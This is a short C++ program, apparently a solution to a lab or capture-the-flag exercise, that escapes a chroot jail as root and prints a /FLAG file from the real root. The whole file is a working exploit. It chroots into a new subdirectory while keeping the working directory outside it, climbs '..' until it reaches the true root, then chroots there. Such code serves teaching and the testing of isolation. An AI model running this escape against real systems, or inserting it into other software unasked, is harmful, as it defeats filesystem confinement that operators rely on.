// Lab 01, part B: this program is started as root in a root of its own, by drydock-01. The root outside has a file
// /FLAG. Print what is in it.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>

namespace {

/// Makes the root outside the root of this process.
/// @return 0, or -1 with errno
int escape() {
    // The root moves down, the working directory stays where it is: now it is outside of the root, and ".." is stopped
    // only by the root of the mount namespace.
    if ((::mkdir("below", 0700) == -1 && errno != EEXIST) || ::chroot("below") == -1) {
        return -1;
    }
    struct stat here{};
    struct stat above{};
    do {
        if (::stat(".", &here) == -1 || ::chdir("..") == -1 || ::stat(".", &above) == -1) {
            return -1;
        }
    } while (here.st_ino != above.st_ino || here.st_dev != above.st_dev);
    return ::chroot(".");
}

}  // namespace

int main() {
    if (escape() != 0) {
        std::perror("escape");
        return 1;
    }
    std::FILE* flag = std::fopen("/FLAG", "re");
    if (flag == nullptr) {
        std::perror("/FLAG");
        return 1;
    }
    for (int c = std::fgetc(flag); c != EOF; c = std::fgetc(flag)) {
        std::putchar(c);
    }
    std::fclose(flag);
    return 0;
}
